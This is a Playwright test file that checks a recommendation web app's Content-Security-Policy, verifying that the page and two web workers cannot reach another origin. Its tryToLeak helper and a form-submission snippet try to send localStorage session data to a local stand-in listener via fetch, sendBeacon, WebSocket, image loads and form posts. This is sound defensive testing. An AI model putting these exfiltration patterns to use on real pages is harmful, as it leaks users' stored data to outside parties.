import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test, type Worker } from '@playwright/test';
import { waitReady } from './helpers.js';

/**
 * Nothing leaves the device: the page, the scoring worker and the embedding worker each try
 * to reach another origin (a listener on 127.0.0.2, another loopback address, that would
 * answer with permissive CORS headers) and every attempt must fail without the listener
 * seeing a request. The listener is first reached by the browser directly, so a failure is
 * the policy's doing and not a closed network.
 */
let server: Server;
let foreign = '';
const hits: string[] = [];

test.beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' });
    res.end('<link rel="icon" href="data:,"><p>foreign</p>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  foreign = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** Runs fetch, sendBeacon and a WebSocket to `url` in a page or worker; returns what visibly got through. */
function tryToLeak(target: Page | Worker, url: string): Promise<string[]> {
  const attempt = async (u: string): Promise<string[]> => {
    const through: string[] = [];
    try {
      await fetch(`${u}/fetch`, { method: 'POST', body: 'session', mode: 'no-cors' });
      through.push('fetch');
    } catch {
      // blocked: what the test wants
    }
    try {
      // sendBeacon only queues (it returns true even when the policy then blocks it): the listener's log below decides.
      if ('navigator' in globalThis && 'sendBeacon' in navigator) navigator.sendBeacon(`${u}/beacon`, 'session');
    } catch {
      // blocked
    }
    await new Promise<void>((resolve) => {
      try {
        const ws = new WebSocket(`${u.replace('http', 'ws')}/ws`);
        ws.onopen = () => {
          through.push('websocket');
          resolve();
        };
        ws.onerror = () => resolve();
        setTimeout(resolve, 2000);
      } catch {
        resolve();
      }
    });
    return through;
  };
  return 'mainFrame' in target ? target.evaluate(attempt, url) : target.evaluate(attempt, url);
}

async function workerWhose(page: Page, name: RegExp): Promise<Worker> {
  await expect.poll(() => page.workers().some((w) => name.test(w.url())), { timeout: 60_000 }).toBe(true);
  return page.workers().find((w) => name.test(w.url()))!;
}

test('the policy is an HTTP header on the page and on both worker scripts, with the strict directives', async ({ page, request }) => {
  await page.goto('/');
  await waitReady(page);
  await page.getByTestId('query-input').fill('vegan lip balm');
  await page.getByTestId('query-input').press('Enter');
  const engine = await workerWhose(page, /engine\.worker/);
  const embed = await workerWhose(page, /embed\.worker/);
  for (const url of [page.url(), engine.url(), embed.url()]) {
    const csp = (await request.get(url)).headers()['content-security-policy'] ?? '';
    expect(csp, url).toContain("connect-src 'self' blob: data:");
    for (const d of ["form-action 'self'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'", "default-src 'self'"]) expect(csp, url).toContain(d);
  }
});

test('the page and both workers cannot reach another origin', async ({ page, context }) => {
  // Control: the browser itself can reach the listener (so a block below is the policy's).
  const control = await context.newPage();
  await control.goto(`${foreign}/control`);
  await expect(control.locator('p')).toHaveText('foreign');
  await control.close();
  expect(hits).toEqual(['GET /control']);
  hits.length = 0;

  await page.goto('/');
  await waitReady(page);
  // The embedding worker starts on first use: a free-text query.
  await page.getByTestId('query-input').fill('vegan lip balm');
  await page.getByTestId('query-input').press('Enter');
  await expect(page.getByTestId('query-result').first()).toBeVisible({ timeout: 60_000 });
  const engine = await workerWhose(page, /engine\.worker/);
  const embed = await workerWhose(page, /embed\.worker/);

  expect(await tryToLeak(page, foreign), 'from the page').toEqual([]);
  expect(await tryToLeak(engine, foreign), 'from the scoring worker').toEqual([]);
  expect(await tryToLeak(embed, foreign), 'from the embedding worker').toEqual([]);

  // A form posting the session elsewhere is refused (form-action 'self').
  await page.evaluate((u) => {
    const f = document.createElement('form');
    f.method = 'POST';
    f.action = `${u}/form`;
    const i = document.createElement('input');
    i.name = 'session';
    i.value = localStorage.getItem('llmseqrec:session:beauty') ?? '[]';
    f.append(i);
    document.body.append(f);
    f.submit();
  }, foreign);
  await page.waitForTimeout(1000);
  expect(page.url()).not.toContain('127.0.0.2');
  // An image or a script from elsewhere does not load either.
  await page.evaluate((u) => {
    const img = new Image();
    img.src = `${u}/pixel.gif`;
    document.body.append(img);
  }, foreign);
  await page.waitForTimeout(500);
  expect(hits, 'requests the listener received').toEqual([]);
});
